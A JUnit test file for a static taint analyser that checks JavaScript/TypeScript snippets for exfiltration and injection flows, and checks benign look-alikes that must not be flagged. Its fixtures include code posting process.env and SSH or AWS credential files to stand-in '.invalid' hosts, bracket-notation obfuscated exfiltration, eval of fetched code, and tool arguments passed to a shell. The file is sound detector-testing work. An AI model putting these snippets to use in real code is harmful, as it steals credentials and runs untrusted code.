package dev.assay.extract.component.code;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.assay.engine.fact.TaintFlow;
import java.util.List;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/** JavaScript/TypeScript flows that must be found and benign shapes that must stay quiet (hosts are .invalid). */
class ScriptTaintTest {

    private static List<String> flows(String text) {
        return flows("payload.ts", Language.TYPESCRIPT, text);
    }

    private static List<String> flows(String file, Language language, String text) {
        CodeFacts f = Analyze.source(file, language, text);
        return f.flows().stream().map(ScriptTaintTest::shape).sorted().collect(Collectors.toList());
    }

    private static String shape(TaintFlow t) {
        return t.source() + "@" + t.sourceLine() + "->" + t.sink() + ":" + t.sinkCallee() + "@" + t.line();
    }

    // ---- sources to the network

    @Test
    void wholeEnvironmentPostedAsJson() {
        assertEquals(List.of("env@2->network:fetch@2"), flows("export async function collect() {\n"
                + "  await fetch('https://collector.invalid/c', {method: 'POST', body: JSON.stringify(process.env)});\n"
                + "}\n"));
    }

    @Test
    void environmentThroughVariablesSpreadAndTemplate() {
        assertEquals(List.of("env@2->network:axios.post@4"), flows("import axios from 'axios';\n"
                + "const snapshot = {...process.env, host: 'x'};\n"
                + "const payload = `data=${JSON.stringify(snapshot)}`;\n"
                + "axios.post('https://collector.invalid/', payload);\n"));
    }

    @Test
    void credentialFileReadRelativeToHomeSentThroughHttpsRequest() {
        List<String> got = flows("payload.js", Language.JAVASCRIPT, "const fs = require('fs');\n"
                + "const os = require('os');\n"
                + "const path = require('path');\n"
                + "function run() {\n"
                + "  const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\n"
                + "  const req = require('https').request({hostname: 'sink.invalid', method: 'POST'});\n"
                + "  req.write(Buffer.from(key).toString('base64'));\n"
                + "  req.end();\n"
                + "}\n");
        assertEquals(List.of("credential-file@5->network:req.write@7"), got);
    }

    /** Obfuscators write every member access with a string subscript; the flow is the same as in dotted form. */
    @Test
    void bracketNotationEnvironmentEncodedAndWrittenToARequest() {
        assertEquals(List.of("env@3->network:req.write@7"), flows("payload.js", Language.JAVASCRIPT,
                "const http = require('http');\n"
                + "const qs = require('querystring');\n"
                + "const dump = JSON['stringify'](process['env']);\n"
                + "const encoded = Buffer['from'](dump)['toString']('base64');\n"
                + "const body = qs['stringify']({ d: encoded });\n"
                + "const req = http['request']({ hostname: 'sink.invalid', port: 80, path: '/l', method: 'POST' });\n"
                + "req['write'](body);\n"
                + "req['end']();\n"));
    }

    /** Look-alike: one named variable in bracket notation is one variable, and a key in headers does not count. */
    @Test
    void bracketNotationSingleVariableStaysASingleVariable() {
        assertEquals(List.of("env-var@4->network:req.write@4"), flows("client.js", Language.JAVASCRIPT,
                "const https = require('https');\n"
                + "const key = process['env']['VENDOR_API_KEY'];\n"
                + "const req = https['request']({ hostname: 'api.vendor.invalid', headers: { authorization: key } });\n"
                + "req['write'](JSON['stringify']({ mode: process['env']['NODE_ENV'] }));\n"
                + "req['end']();\n"));
    }

    @Test
    void webSocketSendAndXmlHttpRequest() {
        assertEquals(List.of("env@3->network:ws.send@3", "env@5->network:x.send@6"), flows("function a() {\n"
                + "  const ws = new WebSocket('wss://sink.invalid');\n"
                + "  ws.send(JSON.stringify(process.env));\n"
                + "  const x = new XMLHttpRequest();\n"
                + "  const all = Object.entries(process.env);\n"
                + "  x.send(all);\n"
                + "}\n"));
    }

    @Test
    void oneLevelOfLocalFunctionNamesCallerSourceAndCalleeSink() {
        assertEquals(List.of("env@5->network:fetch@2"), flows("function send(data) {\n"
                + "  return fetch('https://sink.invalid/x', {method: 'POST', body: data});\n"
                + "}\n"
                + "export function main() {\n"
                + "  send(JSON.stringify(process.env));\n"
                + "}\n"));
    }

    @Test
    void localFunctionReturningASourceCarriesIt() {
        assertEquals(List.of("credential-file@2->network:fetch@5"), flows("const fs = require('fs');\n"
                + "const creds = () => fs.readFileSync('/home/u/.aws/credentials', 'utf8');\n"
                + "const wrap = (s) => ({blob: s});\n"
                + "async function go() {\n"
                + "  await fetch('https://sink.invalid', {method: 'PUT', body: JSON.stringify(wrap(creds()))});\n"
                + "}\n"));
    }

    @Test
    void commandOutputToTheNetworkIsLocalData() {
        assertEquals(List.of("command-output@3->network:fetch@4"), flows("import { execSync } from 'child_process';\n"
                + "function recon() {\n"
                + "  const who = execSync('whoami').toString().trim();\n"
                + "  fetch('https://sink.invalid/?u=' + encodeURIComponent(who));\n"
                + "}\n"));
    }

    // ---- untrusted input to shell and eval

    @Test
    void toolArgumentToShell() {
        assertEquals(List.of("tool-argument@3->shell:child_process.exec@4"), flows(
                "import { exec } from 'node:child_process';\n"
                + "server.tool('run', 'Runs a command', {cmd: z.string()},\n"
                + "  async ({ cmd }) => {\n"
                + "    exec(`sh -c ${cmd}`);\n"
                + "    return {content: []};\n"
                + "  });\n"));
    }

    @Test
    void callToolHandlerArgumentsToSpawnWithShell() {
        assertEquals(List.of("tool-argument@1->shell:child_process.spawn@3"), flows(
                "server.setRequestHandler(CallToolRequestSchema, async (request) => {\n"
                + "  const args = request.params.arguments;\n"
                + "  require('child_process').spawn(args.command, [], {shell: true});\n"
                + "});\n"));
    }

    @Test
    void requestBodyToShellProgramWithDashC() {
        assertEquals(List.of("request@2->shell:child_process.spawn@3"), flows("app.post('/run', (req, res) => {\n"
                + "  const { script } = req.body;\n"
                + "  require('child_process').spawn('bash', ['-c', script]);\n"
                + "});\n"));
    }

    @Test
    void fetchedCodeIsEvaluated() {
        assertEquals(List.of("network@3->exec:eval@4", "network@5->exec:Function@6"), flows("async function load() {\n"
                + "  const r = await fetch('https://cdn.invalid/payload.js');\n"
                + "  const code = await r.text();\n"
                + "  eval(code);\n"
                + "  const { data } = await axios.get('https://cdn.invalid/p');\n"
                + "  new Function(data)();\n"
                + "}\n"));
    }

    @Test
    void toolArgumentIntoVmThroughLocalHelper() {
        assertEquals(List.of("tool-argument@4->exec:vm.runInNewContext@2"), flows("import vm from 'vm';\n"
                + "function calc(expr) { return vm.runInNewContext(expr, {}); }\n"
                + "server.registerTool('calc', {description: 'Calculator'},\n"
                + "  async (args) => ({content: [{type: 'text', text: String(calc(args.expression))}]}));\n"));
    }

    // ---- what a file tells the component about flows across local modules

    @Test
    void exportedFunctionsAreSummarisedForImporters() {
        CodeFacts f = Analyze.source("lib/send.js", Language.JAVASCRIPT, "const fs = require('fs');\n"
                + "function post(url, data) { return fetch(url, {method: 'POST', body: data}); }\n"
                + "const readKey = () => fs.readFileSync('/home/u/.ssh/id_rsa', 'utf8');\n"
                + "function log(x) { console.log(x); }\n"
                + "module.exports = { post, readKey, log, id: (x) => x };\n");
        List<String> exports = f.module().exports().stream().map(e -> e.name() + " sinks=" + e.sinks().stream()
                .map(s -> s.params() + ":" + s.callee() + "@" + s.line()).collect(Collectors.toList())
                + " returns=" + e.returnParams() + e.returnSources().stream().map(s -> s.kind() + "@" + s.line())
                .collect(Collectors.toList())).collect(Collectors.toList());
        assertEquals(List.of("id sinks=[] returns=1[]", "post sinks=[3:fetch@2] returns=0[]",
                "readKey sinks=[] returns=0[credential-file@3]"), exports);
    }

    @Test
    void importedCallsRecordTheirArgumentsAndTheSinksTheirResultReaches() {
        CodeFacts f = Analyze.source("main.ts", Language.TYPESCRIPT, "import { load, send } from './lib/io';\n"
                + "import * as util from 'util';\n"
                + "const data = load();\n"
                + "send(JSON.stringify(process.env), util.format('%s', 1));\n"
                + "fetch('https://sink.invalid', {method: 'POST', body: data});\n");
        List<String> calls = f.module().calls().stream().map(c -> c.id() + ":" + c.callee() + "@" + c.line() + " "
                + c.arguments().stream().map(a -> a.stream().map(t -> t.source() == null ? "call" + t.call()
                        : t.source().kind() + "@" + t.source().line()).collect(Collectors.toList()))
                        .collect(Collectors.toList())).collect(Collectors.toList());
        assertEquals(List.of("0:./lib/io.load@3 []", "1:./lib/io.send@4 [[env@4], []]"), calls);
        assertEquals(List.of("0->network:fetch@5"), f.module().sinks().stream()
                .map(s -> s.call() + "->" + s.kind() + ":" + s.callee() + "@" + s.line()).collect(Collectors.toList()));
        assertEquals(List.of(), f.flows(), "the placeholder of an imported call is never a flow of its own");
    }

    @Test
    void aFileWithoutImportedCallsOrExportedSinksHasNothingToJoin() {
        assertEquals(null, Analyze.source("a.js", Language.JAVASCRIPT, "const x = require('lodash');\n"
                + "export function f(a) { console.log(a); }\n"
                + "x.get(process.env, 'HOME');\n").module());
    }

    // ---- benign look-alikes: must stay quiet

    @Test
    void namedVariableSentToItsVendorAsAuthHeaderIsNotAFlowOfTheEnvironment() {
        List<String> got = flows("const key = process.env.OPENAI_API_KEY;\n"
                + "async function ask(prompt) {\n"
                + "  return fetch('https://api.openai.com/v1/chat/completions', {method: 'POST',\n"
                + "    headers: {Authorization: `Bearer ${process.env.OPENAI_API_KEY}`},\n"
                + "    body: JSON.stringify({model: 'x', prompt})});\n"
                + "}\n");
        assertEquals(List.of(), got);
    }

    @Test
    void destructuredEnvironmentVariablesAreSingleVariables() {
        List<String> got = flows("const { API_TOKEN, BASE } = process.env;\n"
                + "function q() { return fetch(`${BASE}/items?token=${API_TOKEN}`); }\n");
        assertEquals(List.of("env-var@1->network:fetch@2"), got);
        assertTrue(got.stream().noneMatch(s -> s.startsWith("env@")));
    }

    @Test
    void constantUrlAndConstantCommandsAreClean() {
        assertEquals(List.of(), flows("import { execSync } from 'child_process';\n"
                + "async function f() {\n"
                + "  await fetch('https://api.example.invalid/status');\n"
                + "  execSync('git rev-parse HEAD');\n"
                + "  setTimeout(() => console.log(process.env.HOME), 10);\n"
                + "  eval('1 + 1');\n"
                + "}\n"));
    }

    @Test
    void toolArgumentWithoutShellIsNotAShellFlow() {
        assertEquals(List.of(), flows("import { execFile } from 'child_process';\n"
                + "server.tool('ls', {dir: z.string()}, async ({ dir }) => {\n"
                + "  execFile('ls', ['-la', dir]);\n"
                + "  return {content: []};\n"
                + "});\n"));
    }

    @Test
    void fileReadOfTheProjectPassedToAParserStaysLocal() {
        assertEquals(List.of(), flows("const fs = require('fs');\n"
                + "const pkg = JSON.parse(fs.readFileSync('./package.json', 'utf8'));\n"
                + "fetch('https://registry.npmjs.org/' + pkg.name);\n"));
    }

    @Test
    void sanitisedNumberAndComparisonsDoNotCarryTaint() {
        assertEquals(List.of(), flows("function f(req) {\n"
                + "  const n = parseInt(req.query.n, 10);\n"
                + "  const big = process.env.MODE === 'x';\n"
                + "  require('child_process').execSync('seq ' + n + (big ? ' 1' : ''));\n"
                + "}\n"));
    }
}
